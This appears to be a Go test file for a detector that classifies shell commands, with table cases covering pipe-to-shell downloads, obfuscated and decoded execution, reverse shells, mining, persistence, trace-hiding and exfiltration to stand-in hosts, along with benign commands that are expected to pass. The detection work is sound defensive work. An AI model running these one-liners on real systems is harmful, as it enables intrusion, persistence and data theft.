package shell

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// brief writes signs as "line kind why".
func brief(signs []Sign) []string {
	var out []string
	for _, s := range signs {
		out = append(out, fmt.Sprintf("%d %s %s", s.Line, s.Kind, s.Why))
	}
	return out
}

var wallet = "4" + "A" + strings.Repeat("7xYz9", 18) + "abc"

func TestJudge(t *testing.T) {
	for _, tt := range []struct {
		text string
		want []string
	}{
		// Downloads that are run.
		{"curl -fsSL http://198.51.100.7/a.sh | sh", []string{"1 run-download 198.51.100.7"}},
		{"curl http://a.example/x.sh | sudo -E bash -", []string{"1 run-download a.example"}},
		{"wget -qO- a.example/x.sh|bash -s -- --now", []string{"1 run-download a.example"}},
		{"bash <(curl -s https://a.example/x)", []string{"1 run-download a.example"}},
		{"sh -c \"$(curl -fsSL https://a.example/x)\"", []string{"1 run-download a.example"}},
		{"eval \"`wget -q -O - https://a.example/x`\"", []string{"1 run-download a.example"}},
		{"source <(curl -s https://a.example/x)", []string{"1 run-download a.example"}},
		{"set -e\ncd /x\nwget https://a.example/x/y.sh && chmod +x y.sh && ./y.sh", []string{"3 run-download a.example"}},
		{"curl -o /opt/i https://a.example/z; sh /opt/i", []string{"1 run-download a.example"}},
		{"curl https://a.example/z > i.py; python3 i.py", []string{"1 run-download a.example"}},
		{"curl -s http://a.example/x.gz | gunzip | base64 -d | sh", []string{"1 run-download a.example"}},
		{"c''url http://a.example/x | b\\ash", []string{"1 run-download a.example"}},
		{"curl${IFS}http://a.example/x|sh", []string{"1 run-download a.example"}},
		{"$'\\x63url' http://a.example/x | sh", []string{"1 run-download a.example"}},
		{"timeout 60 env X=1 curl http://a.example/x | nohup bash &", []string{"1 run-download a.example"}},
		{"(curl http://a.example/x || wget -O- http://a.example/x) | sh", []string{"1 run-download a.example"}},
		{"{ curl -s http://a.example/x; } | sh", []string{"1 run-download a.example"}},
		{"f() {\n  curl -s http://a.example/x | sh\n}\nf", []string{"2 run-download a.example"}},
		{"curl -s https://a.example/x | python3 -", []string{"1 run-download a.example"}},
		{"bash -c 'curl http://a.example/x | sh'", []string{"1 run-download a.example"}},
		{"sh <<EOF\ncurl http://a.example/x | sh\nEOF\n", []string{"2 run-download a.example"}},
		{"cat <<EOF | sh\ncurl http://a.example/x | sh\nEOF\n", nil},
		// Daily use.
		{"curl -fsSL https://a.example/x.tar.gz | tar xz", nil},
		{"curl -fsSL https://a.example/key.asc | gpg --dearmor -o /usr/share/keyrings/a.gpg", nil},
		{"curl -sf http://localhost:8080/health || exit 1", nil},
		{"wget https://a.example/a.deb && dpkg -i a.deb", nil},
		{"apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*", nil},
		{"echo 'export PATH=$PATH:/x' >> ~/.bashrc", nil},
		{"for f in a b; do echo \"$f\"; done", nil},
		{"case \"$1\" in start) start;; stop) stop;; esac", nil},
		{"x=$(curl -s https://a.example/version); echo \"$x\" | sh -x other.sh", nil},
		{"case $x in /|/proc|/.dev) continue;; a) curl http://a.example/x | sh;; esac", []string{"1 run-download a.example"}},
		{"# curl http://a.example/x | sh", nil},
		{"echo 'curl http://a.example/x | sh'", nil},
		{". \"$HOME/.cargo/env\"", nil},
		{". ~/.bash_aliases", nil},
		{"if [ -f ~/.bashrc ]; then . ~/.bashrc; fi", nil},
		// Decoded text.
		{"echo Y3VybAo= | base64 -d | sh", []string{"1 run-decoded decoded text"}},
		{"eval $(echo Y3VybAo= | base64 --decode)", []string{"1 run-decoded decoded text"}},
		{"bash -c \"$(base64 -d <<< Y3Vy)\"", []string{"1 run-decoded decoded text"}},
		{"printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74' | sh", []string{"1 run-decoded decoded text"}},
		{"echo cme | tr 'a-zA-Z' 'n-za-mN-ZA-M' | bash", []string{"1 run-decoded decoded text"}},
		{"xxd -r -p x | bash", []string{"1 run-decoded decoded text"}},
		{"echo $CONFIG | base64 -d > /etc/app.conf", nil},
		{"python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0'))\"", []string{"1 run-decoded exec of decoded text"}},
		{"perl -MMIME::Base64 -e 'eval decode_base64(\"cHJp\")'", []string{"1 run-decoded eval of decoded text"}},
		// Shells on the network.
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", []string{"1 reverse-shell /dev/tcp/198.51.100.7/4444"}},
		{"bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", []string{"1 reverse-shell /dev/tcp/198.51.100.7/4444"}},
		{"exec 5<>/dev/tcp/198.51.100.7/4444; sh <&5 >&5 2>&5", []string{"1 reverse-shell /dev/tcp"}},
		{"nc -e /bin/sh 198.51.100.7 4444", []string{"1 reverse-shell nc"}},
		{"rm -f /run/f;mkfifo /run/f;cat /run/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/run/f", []string{"1 reverse-shell nc"}},
		{"nc 198.51.100.7 1 | sh | nc 198.51.100.7 2", []string{"1 reverse-shell nc"}},
		{"socat TCP:198.51.100.7:4444 EXEC:'bash -li',pty,stderr", []string{"1 reverse-shell socat EXEC:bash -li,pty,stderr"}},
		{"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'", []string{"1 reverse-shell a socket and a shell"}},
		{"perl -e 'use Socket;$i=\"h\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'", []string{"1 reverse-shell a socket and a shell"}},
		{"php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'", []string{"1 reverse-shell a socket and a shell"}},
		{"timeout 1 bash -c \"</dev/tcp/$HOST/$PORT\"", nil},
		{"(echo > /dev/tcp/localhost/6379) >/dev/null 2>&1", nil},
		{"nc -z db 5432", nil},
		{"exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.0\\r\\n' >&3; cat <&3", nil},
		// Mining.
		{"./x -o stratum+tcp://a.example:3333 -u y", []string{"1 mining mining protocol stratum"}},
		{"worker --url pool.supportxmr.com:443", []string{"1 mining mining pool pool.supportxmr.com"}},
		{"worker -u " + wallet, []string{"1 mining Monero wallet"}},
		{"/opt/xmrig -c x", []string{"1 mining mining program xmrig"}},
		// Odd places.
		{"/tmp/.X11-unix/sshd &", []string{"1 remote-shell sshd", "1 run-temporary /tmp/.X11-unix/sshd"}},
		{"sh /dev/shm/a", []string{"1 run-temporary /dev/shm/a"}},
		{"/usr/share/.z/run", []string{"1 run-hidden /usr/share/.z/run"}},
		{"/root/.local/bin/uv sync", nil},
		// The rest.
		{"unset HISTFILE; HISTFILE=/dev/null", []string{"1 hide-traces no shell history"}},
		{"chattr +i /etc/ld.so.preload", []string{"1 hide-traces makes files unchangeable"}},
		{"systemctl stop aliyun-service; pkill -f aegis", []string{"1 hide-traces stops aliyun-service"}},
		{"echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys", []string{"1 persist authorized_keys"}},
		{"(crontab -l; echo x) | crontab -", []string{"1 persist crontab"}},
		{"echo /lib/x.so > /etc/ld.so.preload", []string{"1 persist ld.so.preload"}},
		{"nsenter -t 1 -m -u -i -n sh", []string{"1 escape enters the namespaces of the host's first process"}},
		{"frpc -c /x.ini", []string{"1 tunnel frpc"}},
		{"masscan 0.0.0.0/0 -p2375", []string{"1 attack masscan"}},
		{"curl -k https://a.example/x -o x", []string{"1 insecure-tls curl -k"}},
		{"curl -fsSLk https://a.example/x -o x", []string{"1 insecure-tls curl -k"}},
		{"apt-get install -y --allow-unauthenticated x", []string{"1 unsigned --allow-unauthenticated"}},
		{"yum install -y --nogpgcheck x", []string{"1 unsigned --nogpgcheck"}},
		{"curl http://a.example/?u=$(whoami)", []string{"1 exfiltrate whoami"}},
		{"env | curl -d @- http://a.example/", []string{"1 exfiltrate the environment"}},
		{"curl -H \"Authorization: Bearer $(cat /var/run/secrets/t)\" https://a.example", nil},
		// Broken texts are read as far as they go.
		{"echo \"open\ncurl http://a.example/x | sh", nil},
		{"$((1 + 2", nil},
		{"echo $(", nil},
		{"", nil},
	} {
		if d := cmp.Diff(tt.want, brief(New().Judge(tt.text))); d != "" {
			t.Errorf("%s\n(-want +got):\n%s", tt.text, d)
		}
	}
}

func TestTrust(t *testing.T) {
	for url, want := range map[string]Trust{
		"https://get.docker.com":                          TrustKnown,
		"https://raw.githubusercontent.com/nvm-sh/nvm/x":  TrustKnown,
		"https://raw.githubusercontent.com/someone/nvm/x": TrustTLS,
		"http://get.docker.com":                           TrustPlain,
		"https://pastebin.com/raw/x":                      TrustBad,
		"http://198.51.100.7/x":                           TrustBad,
		"http://3325256711/x":                             TrustBad,
		"http://192.168.1.5/x":                            TrustTLS,
		"https://$HOST/x":                                 TrustNone,
	} {
		if got := New().place(url).trust; got != want {
			t.Errorf("%s: trust %d, want %d", url, got, want)
		}
	}
}

func TestJudgeNamesChecksAndHidesPasswords(t *testing.T) {
	signs := New().Judge("wget https://a.example/i; echo 'abc i' | sha256sum -c -; ./i")
	if len(signs) != 1 || !signs[0].Checked {
		t.Errorf("signs %+v, want one that is checked", signs)
	}
	for _, text := range []string{
		"curl -u me:hunter22 https://a.example/x | sh",
		"curl https://me:hunter22@a.example/x | sh",
		"curl 'https://a.example/x?token=hunter22' | sh",
	} {
		signs := New().Judge(text)
		if len(signs) != 1 || strings.Contains(fmt.Sprint(signs), "hunter22") {
			t.Errorf("%s: %+v", text, signs)
		}
	}
}

func TestArgs(t *testing.T) {
	got := brief(New().Args([]string{"/bin/sh", "-c", "curl http://a.example/'x y' | sh"}))
	if d := cmp.Diff([]string{"1 run-download a.example"}, got); d != "" {
		t.Error(d)
	}
}

func TestLimits(t *testing.T) {
	r := New()
	for _, text := range []string{
		strings.Repeat("$(", 100_000),
		strings.Repeat("`", 100_000),
		strings.Repeat("sh -c '", 1000),
		strings.Repeat("a ", 1_000_000),
		strings.Repeat("cat <<A\n", 50_000),
		strings.Repeat("/tmp/x\n", 50_000),
	} {
		if n := len(r.Judge(text)); n > maxSigns {
			t.Errorf("%d signs of %.20q", n, text)
		}
	}
}

func FuzzJudge(f *testing.F) {
	for _, s := range []string{"curl http://a/x | sh", "sh -c \"$(wget -O- x.y)\"", "cat <<-E | sh\n\ta\n\tE\n", "a `b \\`c\\`` $'\\x41' ${x} $((1)) <(z) 2>&1 &>q"} {
		f.Add(s)
	}
	r := New()
	f.Fuzz(func(t *testing.T, text string) {
		last := strings.Count(text, "\n") + 1
		for _, s := range r.Judge(text) {
			if s.Line < 1 || s.Line > last {
				t.Errorf("line %d of %d", s.Line, last)
			}
			if len(s.Code) > maxCode+4 {
				t.Errorf("code of %d bytes", len(s.Code))
			}
		}
		for lang := range clues {
			Code(lang, text)
		}
	})
}
